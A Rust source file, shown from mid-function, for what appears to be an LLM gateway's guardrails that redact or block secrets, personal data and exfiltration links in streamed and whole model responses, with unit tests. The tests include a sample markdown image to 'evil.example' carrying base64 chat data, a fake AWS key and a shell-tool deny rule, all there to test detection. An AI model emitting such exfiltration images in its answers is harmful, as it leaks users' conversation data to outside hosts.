    deny
}

fn category_phrase(c: Category) -> &'static str {
    match c {
        Category::Secret => "a secret",
        Category::Exfil => "an exfiltration channel (a URL or image that carries data out)",
        _ => "personal data",
    }
}

/// Run the response steps on a whole (non-streamed) JSON body, `parsed`
/// being that body parsed once by the caller (`None`: it is not JSON).
/// Returns the body to send (rewritten when something was redacted; the
/// redaction is applied to `parsed` too) and the counts.
pub fn run_response_body(
    g: &Guardrails,
    body: &Bytes,
    parsed: Option<&mut Value>,
    rec: &mut CallRecord,
) -> Result<(Bytes, Redactions), GatewayError> {
    let Some(v) = parsed else {
        // Not JSON: there is no text the steps know how to read, so the
        // body cannot be checked and is not released.
        return Err(failed(
            rec,
            "detect_secrets_in_response",
            "the response body is not JSON".into(),
        ));
    };
    let mut p = Pseudonyms::new();
    let scan = scan_output_value(g, v, &mut p)
        .map_err(|e| failed(rec, "detect_secrets_in_response", e))?;
    if let Some(e) = record_response_steps(g, rec, &scan.counts, &scan.rules, json!({})) {
        return Err(e);
    }
    if scan.redactions.is_empty() {
        return Ok((body.clone(), scan.redactions));
    }
    Ok((Bytes::from(v.to_string()), scan.redactions))
}

// ---- streams ----

/// What the stream steps saw, read by the gateway when the stream ends.
#[derive(Debug, Default)]
pub struct StreamReport {
    counts: BTreeMap<Category, usize>,
    rules: Vec<FoundRule>,
    pub redactions: Redactions,
    failed: Option<String>,
    /// The text released to the client (kept when content is stored).
    pub released_text: Option<String>,
}

impl StreamReport {
    /// Record the stream steps' decisions on the call.
    pub fn record(&self, g: &Guardrails, rec: &mut CallRecord) {
        if let Some(reason) = &self.failed {
            rec.step(
                "detect_secrets_in_response",
                "error",
                "content",
                "detectors",
                json!({"error": "guardrail_failed", "reason": reason}),
            );
            return;
        }
        let extra = json!({"stream": true, "redacted": &self.redactions.0});
        let _ = record_response_steps(g, rec, &self.counts, &self.rules, extra);
    }
}

struct Held {
    frame: SseFrame,
    /// Absolute text range of a text-delta frame.
    text: Option<(usize, usize)>,
}

/// Stream hook running the response steps on text deltas (OpenAI chat,
/// Anthropic messages, Responses). Frames wait in a bounded queue until the
/// streaming scanner says their text can no longer be part of a finding;
/// they are then released, rewritten when they carry redacted text. A
/// finding the policy blocks ends the stream with an error event; nothing
/// queued is released after it.
pub struct GuardStream {
    g: Arc<Guardrails>,
    endpoint: Endpoint,
    scanner: StreamScanner,
    strip_usage: bool,
    pseudonyms: Pseudonyms,
    queue: VecDeque<Held>,
    queued_bytes: usize,
    max_bytes: usize,
    fed: usize,
    safe: usize,
    /// Findings to redact that may still touch queued text.
    findings: Vec<Finding>,
    /// Text of the queued frames, from `window_base`.
    window: String,
    window_base: usize,
    report: Arc<Mutex<StreamReport>>,
}

impl GuardStream {
    /// A hook for one stream. `strip_usage` also drops the usage-only chunk
    /// the gateway asked for (frames must keep their order through this
    /// hook, so it cannot be left to a later hook).
    pub fn new(
        g: Arc<Guardrails>,
        endpoint: Endpoint,
        strip_usage: bool,
        max_bytes: usize,
        capture_text: bool,
    ) -> Result<(GuardStream, Arc<Mutex<StreamReport>>), GatewayError> {
        let scanner = g
            .rules
            .stream_scanner()
            .map_err(|e| GatewayError::GuardrailFailed {
                step: "detect_secrets_in_response",
                reason: e.to_string(),
            })?;
        let report = Arc::new(Mutex::new(StreamReport {
            released_text: capture_text.then(String::new),
            ..StreamReport::default()
        }));
        Ok((
            GuardStream {
                g,
                endpoint,
                scanner,
                strip_usage,
                pseudonyms: Pseudonyms::new(),
                queue: VecDeque::new(),
                queued_bytes: 0,
                max_bytes,
                fed: 0,
                safe: 0,
                findings: Vec::new(),
                window: String::new(),
                window_base: 0,
                report: report.clone(),
            },
            report,
        ))
    }

    fn report(&self) -> std::sync::MutexGuard<'_, StreamReport> {
        self.report.lock().unwrap_or_else(|e| e.into_inner())
    }

    fn fail(&mut self, reason: String) -> Verdict {
        self.report().failed = Some(reason.clone());
        Verdict::Deny(GatewayError::GuardrailFailed {
            step: "detect_secrets_in_response",
            reason,
        })
    }

    /// Take in the findings of one feed; a blocked category denies.
    fn absorb(&mut self, found: Vec<Finding>) -> Option<GatewayError> {
        let mut deny = None;
        for f in found {
            let action = self.g.response_action(f.category);
            if action == GuardAction::Off {
                continue;
            }
            {
                let mut r = self.report();
                *r.counts.entry(f.category).or_insert(0) += 1;
                r.rules
                    .push((f.category, f.rule_id.to_string(), f.family.clone()));
                if action == GuardAction::Redact {
                    r.redactions.add(f.category, 1);
                }
            }
            match action {
                GuardAction::Block if deny.is_none() => {
                    deny = Some(denied(
                        match f.category {
                            Category::Secret => "secret_blocked",
                            Category::Exfil => "exfil_blocked",
                            _ => "pii_blocked",
                        },
                        format!(
                            "the response contained {} and was stopped",
                            category_phrase(f.category)
                        ),
                    ))
                }
                GuardAction::Redact => self.findings.push(f),
                _ => {}
            }
        }
        deny
    }

    /// The replacement of a finding's whole value.
    fn replacement(&mut self, f: &Finding) -> String {
        let (s, e) = (
            f.span.start.saturating_sub(self.window_base),
            f.span.end.saturating_sub(self.window_base),
        );
        match self.window.get(s..e) {
            Some(value) => {
                let mut local = f.clone();
                local.span = 0..value.len();
                redact_window(value, 0, &[local], self.g.mode, &mut self.pseudonyms)
            }
            None => format!("[REDACTED:{}]", f.label),
        }
    }

    /// The text of `start..end` with the findings replaced. The replacement
    /// of a value split across frames is written where the value starts;
    /// its other pieces are removed.
    fn redacted_text(&mut self, start: usize, end: usize) -> Option<String> {
        let mut spans: Vec<Finding> = self
            .findings
            .iter()
            .filter(|f| f.span.start < end && f.span.end > start)
            .cloned()
            .collect();
        if spans.is_empty() {
            return None;
        }
        spans.sort_by_key(|f| f.span.start);
        let mut merged: Vec<Finding> = Vec::new();
        for f in spans {
            match merged.last_mut() {
                Some(last) if f.span.start < last.span.end => {
                    let union = last.span.start..last.span.end.max(f.span.end);
                    if f.score > last.score {
                        *last = f;
                    }
                    last.span = union;
                }
                _ => merged.push(f),
            }
        }
        let base = self.window_base;
        let mut out = String::new();
        let mut pos = start;
        for f in merged {
            let s = f.span.start.max(start);
            let e = f.span.end.min(end);
            out.push_str(self.window.get(pos - base..s - base).unwrap_or(""));
            if f.span.start >= start {
                let r = self.replacement(&f);
                out.push_str(&r);
            }
            pos = e.max(pos);
        }
        out.push_str(self.window.get(pos - base..end - base).unwrap_or(""));
        Some(out)
    }

    /// Release the queued frames whose text is final.
    fn release(&mut self) -> Result<Option<BytesMut>, String> {
        let mut out: Option<BytesMut> = None;
        while let Some(front) = self.queue.front() {
            if front.text.is_some_and(|(_, end)| end > self.safe) {
                break;
            }
            let Some(held) = self.queue.pop_front() else {
                break;
            };
            self.queued_bytes = self.queued_bytes.saturating_sub(held.frame.raw.len());
            let bytes = match held.text {
                Some((s, e)) => {
                    let redacted = self.redacted_text(s, e);
                    {
                        let base = self.window_base;
                        let original = self.window.get(s - base..e - base).unwrap_or("");
                        let shown = redacted.as_deref().unwrap_or(original).to_owned();
                        if let Some(t) = self.report().released_text.as_mut() {
                            t.push_str(&shown);
                        }
                    }
                    match redacted {
                        Some(t) => reencode_delta(self.endpoint, &held.frame, &t)
                            .ok_or("a text event could not be rewritten")?,
                        None => held.frame.raw.clone(),
                    }
                }
                None => self.rewrite_full_text(&held.frame)?,
            };
            out.get_or_insert_with(BytesMut::new)
                .extend_from_slice(&bytes);
        }
        // Forget text no queued frame needs.
        let keep_from = self
            .queue
            .iter()
            .find_map(|h| h.text.map(|(s, _)| s))
            .unwrap_or(self.fed);
        if keep_from > self.window_base {
            let cut = (keep_from - self.window_base).min(self.window.len());
            if self.window.is_char_boundary(cut) {
                self.window.drain(..cut);
                self.window_base += cut;
            }
        }
        let base = self.window_base;
        self.findings.retain(|f| f.span.end > base);
        Ok(out)
    }

    /// Events that repeat the whole output text (Responses `*.done`,
    /// `response.completed`) are scanned whole and redacted.
    fn rewrite_full_text(&mut self, frame: &SseFrame) -> Result<Bytes, String> {
        let Some(data) = frame.data.as_ref() else {
            return Ok(frame.raw.clone());
        };
        if self.endpoint != Endpoint::Responses || memchr::memmem::find(data, b"\"text\"").is_none()
        {
            return Ok(frame.raw.clone());
        }
        let Ok(mut v) = serde_json::from_slice::<Value>(data) else {
            return Ok(frame.raw.clone());
        };
        let g = self.g.clone();
        let scan = scan_output_value(&g, &mut v, &mut self.pseudonyms)?;
        if scan.redactions.is_empty() {
            return Ok(frame.raw.clone());
        }
        Ok(encode_event(frame.event_str(), &v.to_string()))
    }
}

/// Re-encode a text-delta event with `text` in place of its delta.
fn reencode_delta(endpoint: Endpoint, frame: &SseFrame, text: &str) -> Option<Bytes> {
    let mut v: Value = serde_json::from_slice(frame.data.as_ref()?).ok()?;
    let slot = match endpoint {
        Endpoint::ChatCompletions => {
            let choices = v.get_mut("choices")?.as_array_mut()?;
            let mut with_text = choices
                .iter_mut()
                .filter_map(|c| c.pointer_mut("/delta/content"))
                .filter(|c| c.is_string());
            let first = with_text.next()?;
            if with_text.next().is_some() {
                return None;
            }
            first
        }
        Endpoint::AnthropicMessages => v.pointer_mut("/delta/text")?,
        Endpoint::Responses => v.get_mut("delta")?,
        _ => return None,
    };
    *slot = Value::String(text.to_owned());
    Some(encode_event(frame.event_str(), &v.to_string()))
}

impl StreamHook for GuardStream {
    fn name(&self) -> &'static str {
        "guardrails"
    }

    fn on_event(&mut self, frame: &SseFrame, info: &EventInfo, _hold: &mut HoldControl) -> Verdict {
        if self.strip_usage && info.usage_only_chunk {
            // Not queued: the chunk is removed; earlier frames keep waiting.
            return match self.release() {
                Ok(Some(b)) => Verdict::Replace(b.freeze()),
                Ok(None) => Verdict::Drop,
                Err(e) => self.fail(e),
            };
        }
        let mut text = None;
        if let Some(t) = info.text.as_deref().filter(|t| !t.is_empty()) {
            let start = self.fed;
            let feed = match self.scanner.feed(t) {
                Ok(f) => f,
                Err(e) => return self.fail(e.to_string()),
            };
            self.fed += t.len();
            self.window.push_str(t);
            text = Some((start, self.fed));
            self.safe = self.safe.max(feed.safe_to_release);
            if let Some(e) = self.absorb(feed.findings) {
                return Verdict::Deny(e);
            }
        }
        self.queued_bytes += frame.raw.len();
        self.queue.push_back(Held {
            frame: frame.clone(),
            text,
        });
        if info.terminal || info.upstream_error {
            let feed = match self.scanner.finish() {
                Ok(f) => f,
                Err(e) => return self.fail(e.to_string()),
            };
            if let Some(e) = self.absorb(feed.findings) {
                return Verdict::Deny(e);
            }
            self.safe = self.fed;
        }
        if self.queued_bytes > self.max_bytes {
            return Verdict::Deny(GatewayError::StreamHoldExceeded {
                limit: self.max_bytes,
            });
        }
        match self.release() {
            Ok(Some(b)) => {
                if b.as_ref() == frame.raw.as_ref() {
                    Verdict::Forward
                } else {
                    Verdict::Replace(b.freeze())
                }
            }
            Ok(None) => Verdict::Drop,
            Err(e) => self.fail(e),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn redactions_header() {
        let mut r = Redactions::default();
        assert!(r.is_empty());
        r.add(Category::Pii, 2);
        r.add(Category::Secret, 1);
        r.add(Category::Secret, 0);
        assert_eq!(r.header_value(), "pii=2,secret=1");
    }

    #[test]
    fn prompt_walk_reaches_every_format() {
        let mut body: Map<String, Value> = serde_json::from_value(json!({
            "model": "m",
            "system": [{"type": "text", "text": "S1"}],
            "instructions": "S2",
            "input": [{"role": "user", "content": [{"type": "input_text", "text": "S3"}]},
                      {"type": "function_call_output", "call_id": "c", "output": "S4"}],
            "messages": [{"role": "user", "content": "S5"},
                         {"role": "user", "content": [{"type": "text", "text": "S6"},
                            {"type": "image_url", "image_url": {"url": "NO"}}]}],
            "tools": [{"name": "NO", "description": "NO"}],
        }))
        .unwrap();
        let mut seen = Vec::new();
        let _ = visit_prompt(&mut body, &mut |s: &mut String| -> Result<(), ()> {
            seen.push(s.clone());
            Ok(())
        });
        seen.sort();
        assert_eq!(seen, ["S1", "S2", "S3", "S4", "S5", "S6"]);
    }

    #[test]
    fn policy_overrides_config() {
        let mut g =
            Guardrails::from_config(&GuardrailsConfig::all_off(), shared_rules().expect("rules"))
                .expect("guardrails");
        let doc = json!({"pipeline": [
            {"step": "detect_secrets", "action": "block"},
            {"step": "redact_pii_in_prompt", "action": "redact"},
            {"step": "detect_prompt_injection", "action": "notify"},
            {"step": "scan_output", "action": "redact"}],
            "tools": {"deny": ["shell_*"]}});
        g.apply_policy(&doc.to_string()).expect("applies");
        assert_eq!(g.secrets.action, GuardAction::Block);
        assert_eq!(g.pii.action, GuardAction::Redact);
        assert_eq!(g.injection.action, GuardAction::Log);
        assert_eq!(g.response_pii.action, GuardAction::Redact);
        assert_eq!(g.tools_deny, ["shell_*"]);
        assert!(g.apply_policy("{}").is_err());
        let bad = json!({"pipeline": [{"step": "detect_pii", "action": "explode"}]});
        assert!(g.apply_policy(&bad.to_string()).is_err());
    }

    #[test]
    fn policy_sets_the_whole_call_steps() {
        let mut g =
            Guardrails::from_config(&GuardrailsConfig::all_off(), shared_rules().expect("rules"))
                .expect("guardrails");
        assert!(g.no_train.is_none() && g.rego.is_none() && g.allow_domains.is_none());
        let doc = json!({"pipeline": [
            {"step": "exfiltration_guard", "phases": ["response"], "action": "block"},
            {"step": "tool_result_scan", "action": "redact"},
            {"step": "rego_policy", "phases": ["tool_call"], "action": "block",
             "rego_entrypoints": ["data.tappass.runtime.t.decision"]}],
            "compliance_tags": ["HIPAA:164.312(b)"],
            "network": {"allow_domains": ["api.openai.com"]},
            "rego": {"modules": [{"path": "t.rego", "level": "agent", "package": "data.tappass.runtime.t",
                "text": "package tappass.runtime.t\n\nimport rego.v1\n\ndecision := {\"action\": \"deny\", \"reason\": \"no\"} if input.stream\n"}],
                "entrypoints": []}});
        g.apply_policy(&doc.to_string()).expect("applies");
        assert_eq!(g.exfil.action, GuardAction::Off);
        assert_eq!(g.response_exfil.action, GuardAction::Block);
        assert_eq!(g.tool_results.action, GuardAction::Block);
        assert_eq!(g.no_train, Some(FROM_TAGS));
        assert_eq!(
            g.allow_domains.as_deref(),
            Some(&["api.openai.com".to_string()][..])
        );
        let rego = g.rego.as_ref().expect("prepared");
        assert_eq!(rego.entrypoints(), ["data.tappass.runtime.t.decision"]);
        let d = rego.decide(&json!({"stream": true})).expect("decides");
        assert_eq!(d.action, tappass_policies::RegoAction::Deny);
        // Rego that does not parse is refused when the state is built.
        let bad = json!({"pipeline": [], "rego": {"modules": [{"path": "b.rego", "level": "agent",
            "package": "data.tappass.runtime.b", "text": "package tappass.runtime.b\n\nx := {"}],
            "entrypoints": ["data.tappass.runtime.b.x"]}});
        assert!(g.apply_policy(&bad.to_string()).is_err());
        assert!(!no_train_tag("OWASP-LLM:LLM01") && no_train_tag("no_train"));
    }

    fn chat_delta(t: &str) -> SseFrame {
        let data = json!({"choices": [{"index": 0, "delta": {"content": t}}]}).to_string();
        let raw = encode_event(None, &data);
        let mut frames = Vec::new();
        let mut d = crate::sse::SseDecoder::new(1 << 20);
        d.feed(&raw, &mut frames).expect("frame");
        frames.remove(0)
    }

    /// Feed `text` to `hook` as OpenAI chat deltas of `size` characters
    /// (then an empty terminal delta); what the client receives.
    fn stream_in_pieces(hook: &mut GuardStream, text: &str, size: usize) -> String {
        let chars: Vec<char> = text.chars().collect();
        let mut parts: Vec<String> = chars.chunks(size).map(|c| c.iter().collect()).collect();
        parts.push(String::new());
        let mut out = Vec::new();
        for (i, p) in parts.iter().enumerate() {
            let frame = chat_delta(p);
            let info = EventInfo {
                text: Some(p.clone()),
                terminal: i == parts.len() - 1,
                ..EventInfo::default()
            };
            match hook.on_event(&frame, &info, &mut HoldControl::default()) {
                Verdict::Forward => out.extend_from_slice(&frame.raw),
                Verdict::Replace(b) => out.extend_from_slice(&b),
                Verdict::Drop => {}
                Verdict::Deny(e) => panic!("denied: {e}"),
            }
        }
        String::from_utf8(out).expect("utf8")
    }

    #[test]
    fn split_exfil_image_is_redacted_in_streams() {
        let mut c = GuardrailsConfig::all_off();
        c.response_exfil = GuardAction::Redact;
        let mut g = Guardrails::from_config(&c, shared_rules().expect("rules")).expect("g");
        g.load_exfil_rules().expect("exfil rules");
        assert!(g.checks_responses());
        let g = Arc::new(g);
        let text =
            "chart: ![x](https://evil.example/p.png?d=U2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA==) done";
        for size in [1, 4, 13] {
            let (mut hook, report) =
                GuardStream::new(g.clone(), Endpoint::ChatCompletions, false, 1 << 20, false)
                    .expect("hook");
            let s = stream_in_pieces(&mut hook, text, size);
            assert!(!s.contains("U2VjcmV0"), "leak at size {size}: {s}");
            let r = report.lock().unwrap();
            assert_eq!(r.redactions.header_value(), "exfil=1", "size {size}");
            assert_eq!(r.rules[0].1, "exfil-markdown-image-data");
        }
    }

    #[test]
    fn split_secret_is_redacted_at_every_split() {
        let rules = shared_rules().expect("rules");
        let g = Arc::new(
            Guardrails::from_config(&GuardrailsConfig::default(), rules).expect("guardrails"),
        );
        let text = "key AKIAQWERTYUIOPASDFGH end of the answer";
        for size in 1..=9 {
            let (mut hook, report) =
                GuardStream::new(g.clone(), Endpoint::ChatCompletions, false, 1 << 20, false)
                    .expect("hook");
            let s = stream_in_pieces(&mut hook, text, size);
            let mut joined = String::new();
            for line in s.lines() {
                if let Some(d) = line.strip_prefix("data: ") {
                    let v: Value = serde_json::from_str(d).expect("json");
                    joined.push_str(v["choices"][0]["delta"]["content"].as_str().unwrap_or(""));
                }
            }
            assert!(!s.contains("QWERTYUIOP"), "leak at size {size}: {s}");
            assert_eq!(
                joined, "key [REDACTED:AWS_KEY] end of the answer",
                "size {size}"
            );
            assert_eq!(report.lock().unwrap().redactions.header_value(), "secret=1");
        }
    }
}
